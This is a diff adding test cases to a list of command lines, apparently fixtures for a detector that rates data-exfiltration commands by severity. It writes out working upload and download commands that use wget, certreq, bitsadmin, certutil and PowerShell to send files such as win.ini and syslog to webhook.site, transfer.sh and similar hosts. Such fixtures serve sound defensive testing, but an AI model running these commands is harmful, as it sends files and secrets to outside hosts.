@@ -48,6 +48,16 @@ DROPS = [
      '-Body (Get-Content C:\\Windows\\win.ini -Raw)', "medium"),
     ('d=$(head -c 4000 /var/log/syslog); wget --post-data="$d" https://requestrepo.com/r/abc', "medium"),
     ('body=$(cat /etc/os-release); xh POST https://eo1x.m.pipedream.net --raw "$body"', "medium"),
+    # any program's path given before the drop (a source), or anywhere after an upload word
+    ("ConfigSecurityPolicy.exe C:\\Windows\\System32\\calc.exe https://webhook.site/abc?data", "medium"),
+    ("DataSvcUtil /out:C:\\Windows\\win.ini /uri:https://webhook.site/abc", "medium"),
+    ("bitsadmin /transfer j /upload https://transfer.sh/x.zip C:\\Users\\Public\\x.zip", "medium"),
+    ("certreq -Post -config https://webhook.site/abc C:\\Windows\\win.ini out.txt", "medium"),
+    ("imgur-cli /var/log/Xorg.0.log https://0x0.st", "medium"),
+    ("certutil -urlcache -f https://transfer.sh/abc/x.exe C:\\Users\\Public\\x.exe", None),
+    ("bitsadmin /transfer j https://transfer.sh/abc/x.zip C:\\Users\\Public\\x.zip", None),
+    ("wget -O /tmp/x https://0x0.st/abc", None),
+    ("aria2c -d /tmp https://0x0.st/abc", None),
     ('d=$(cat notes.txt); curl -d "$d" https://webhook.site/abc', None),
     ("$c = Get-Content C:\\Users\\Public\\loot.txt; Invoke-RestMethod -Uri https://api.example.com/upload "
      "-Method Post -Body $c", None),
